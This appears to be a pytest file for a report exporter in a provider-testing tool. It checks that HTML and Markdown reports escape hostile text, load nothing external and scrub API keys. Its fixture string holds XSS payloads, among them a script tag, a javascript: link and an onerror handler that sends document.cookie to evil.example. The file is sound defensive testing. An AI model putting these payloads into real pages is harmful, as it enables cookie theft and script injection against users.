"""The suite reports: one self-contained HTML file (no script, nothing loaded from outside,
hostile provider text escaped, keys scrubbed) and a Markdown one; through `suite export`."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

from provtui.suite import report_html, report_md

KEY = "sk-or-v1-" + "7f3a9c" * 8
HOSTILE = ('</pre><script>alert(1)</script><img src="https://evil.example/x.png" '
           'onerror="fetch(\'https://evil.example/\'+document.cookie)">\x1b]0;pwned\x07'
           '\x1b[31mred\x1b[0m <a href="javascript:alert(2)">click</a> {{7*7}} '
           '<style>@import url(https://evil.example/a.css)</style> ' + KEY)
NAME = '<b onmouseover="x()">evil·target</b>'


def _result() -> dict:
    cells = []
    for case, cat, pts in (("ocean-12", "instruction", 1), ("ev", "mcp", 6)):
        for i, t in enumerate((NAME, "plain")):
            err = case == "ev" and t == "plain"
            cells.append({
                "case": case, "target": t, "repeat_index": 0,
                "status": "error" if err else "ok",
                "error_kind": "context_length" if err else None,
                "score": 0.0 if err else 0.5, "earned": 0.0 if err else pts / 2, "points": pts,
                "checks": [] if err else [{
                    "name": "judge <rubric>", "kind": "judge", "passed": False, "score": 0.5,
                    "detail": HOSTILE, "error": None,
                    "reasons": ["criterion 1: " + HOSTILE, {"criterion": 2, "why": "<i>x</i>"}],
                    "cost_usd": 0.0001}],
                "ttft_s": 0.4, "total_s": 1.25, "output_tokens": 12,
                "cost_usd": None if err else 0.0012, "key": f"k{case}{i}",
                "session_id": f"s-{case}", "run": i})
    summary = {}
    for t in (NAME, "plain"):
        summary[t] = {cat: {"earned": 0.5, "points": 1, "errors": 0, "pass_rate": 0.0,
                            "pass_rate_ci": [0.0, 0.8], "total_s": {"p50": 1.25, "sum": 1.25},
                            "cost_usd": 0.0012} for cat in ("instruction", "mcp", "all")}
    return {"format": "provtui-suite-result", "version": 1, "id": "r-1",
            "created_at": "2026-12-06T20:00:00Z", "status": "complete",
            "suite": {"name": "show<down>", "sha256": "ab" * 32, "path": None},
            "targets": [NAME, "plain"], "repeat": 1,
            "cases": [{"id": "ocean-12", "category": "instruction", "points": 1,
                       "session_id": "s-ocean-12"},
                      {"id": "ev", "category": "mcp", "points": 6, "session_id": "s-ev"}],
            "cells": cells, "summary": summary, "comparisons": []}


def _sessions() -> dict:
    def run(target: str, text: str, error: dict | None = None) -> dict:
        return {"target": target, "status": "error" if error else "ok", "text": text,
                "reasoning": "thinking " + HOSTILE, "error": error,
                "tool_calls": [{"name": "list_vehicles<svg onload=x()>",
                                "arguments": {"q": HOSTILE}, "result": HOSTILE}],
                "metrics": {}, "checks": [], "findings": []}
    ctx = {"kind": "context_length", "message": "max context 34000 " + HOSTILE,
           "http_status": 400}
    return {"s-ocean-12": {"id": "s-ocean-12", "prompt": "Write <12> words " + HOSTILE,
                           "runs": [run(NAME, HOSTILE), run("plain", "fine")]},
            "s-ev": {"id": "s-ev", "prompt": "Analyze",
                     "runs": [run(NAME, HOSTILE), run("plain", "", ctx)]}}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.fixture()
def page(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("OPENROUTER_API_KEY", KEY)
    return report_html.render(_result(), _sessions())


def test_hostile_provider_text_is_escaped_never_markup(page: str) -> None:
    p = _Tags()
    p.feed(page)
    names = [t for t, _ in p.tags]
    assert "script" not in names and "img" not in names and "a" not in names
    assert names.count("style") == 1  # the report's own, in <head>
    assert not any(k.startswith("on") for _, attrs in p.tags for k in attrs)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;/pre&gt;" in page and "javascript:alert" in page  # shown as text
    assert "\x1b" not in page and "\x07" not in page
    assert NAME not in page and "&lt;b onmouseover=" in page
    # a <svg> the provider named a tool: only the report's own SVGs exist, as elements
    assert "&lt;svg onload=x()&gt;" in page


def test_no_external_resources_and_no_script(page: str) -> None:
    p = _Tags()
    p.feed(page)
    for tag, attrs in p.tags:
        for k in ("src", "href", "xlink:href", "action"):
            assert k not in attrs, (tag, attrs)
    # every URL on the page is provider text, escaped inside an element's text
    for m in re.finditer(r"https?://", page):
        before = page[:m.start()]
        assert before.rfind("<") < before.rfind(">"), page[m.start() - 80:m.end() + 20]


def test_keys_in_the_environment_are_scrubbed(page: str) -> None:
    assert KEY not in page and KEY[:20] not in page


def test_table_then_a_panel_per_case_and_target_with_checks_reasons_errors_cost(page: str) -> None:
    assert page.index("<table") < page.index('id="case-ocean-12"') < page.index('id="case-ev"')
    assert "instruction (/1)" in page or "instruction" in page
    assert "criterion 1:" in page and "&lt;i&gt;x&lt;/i&gt;" in page  # judge reasons, escaped
    assert "ERR (context_length)" in page
    assert "context_length (HTTP 400): max context 34000" in page
    assert "cost $0.0012" in page and "cost unknown" in page
    assert "total 1.25 s" in page and "TTFT 0.4 s" in page
    assert page.count('<div class="cell">') == 4
    assert "<svg" in page  # the charts and tool chains are inline SVG


def test_a_missing_session_leaves_the_panels_saying_so(monkeypatch: pytest.MonkeyPatch,
                                                       tmp_path: Path) -> None:
    monkeypatch.setenv("PROVTUI_DATA_DIR", str(tmp_path))
    page = report_html.render(_result())  # sessions read from an empty directory
    assert page.count("the session of this case is not on this machine") == 4
    assert "<table" in page


def test_markdown_report_table_and_compact_cases_escaped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENROUTER_API_KEY", KEY)
    md = report_md.render(_result())
    assert "| category |" in md and "### ocean-12 (1 points)" in md
    assert "### ev (6 points)" in md and "ERR (context\\_length)" in md
    assert "<script>" not in md and "\x1b" not in md and KEY not in md
    line = next(x for x in md.splitlines() if x.startswith("- **\\<b"))
    assert "judge \\<rubric\\>" in line and "1.25 s" in line


def test_suite_export_html_and_md_through_the_cli(tmp_path: Path) -> None:
    data = tmp_path / "data"
    (data / "suites").mkdir(parents=True)
    res = _result()
    path = data / "suites" / "r-1.json"
    path.write_text(json.dumps(res), encoding="utf-8")
    env = {**os.environ, "PROVTUI_DATA_DIR": str(data)}
    for fmt in ("html", "md"):
        out = tmp_path / f"r.{fmt}"
        proc = subprocess.run([sys.executable, "-m", "provtui", "suite", "export", str(path),
                               "--format", fmt, "-o", str(out)], capture_output=True, text=True,
                              env=env, timeout=60)
        assert proc.returncode == 0, proc.stderr
        text = out.read_text(encoding="utf-8")
        assert ("<!DOCTYPE html>" in text) == (fmt == "html")
        assert "<script>alert" not in text
